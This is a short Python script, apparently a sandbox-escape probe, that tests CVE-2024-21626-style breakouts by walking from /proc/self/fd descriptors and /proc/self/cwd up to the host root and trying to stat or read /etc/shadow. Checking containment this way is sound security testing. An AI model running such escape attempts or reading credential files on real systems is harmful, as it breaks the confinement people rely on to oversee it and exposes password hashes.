# Ways out through what is open already: descriptors, the working directory (CVE-2024-21626).
from call import *

for descriptor in 0, 1, 2:
    path = f"/proc/self/fd/{descriptor}/../../etc/shadow"
    show(f"through {descriptor}", attempt(os.stat, path))
up = "/proc/self/cwd" + "/.." * 8
show("up", "the sandbox's root" if os.path.samefile(up, "/") else os.listdir(up))
show("up/etc/shadow", reading(f"{up}/etc/shadow"))
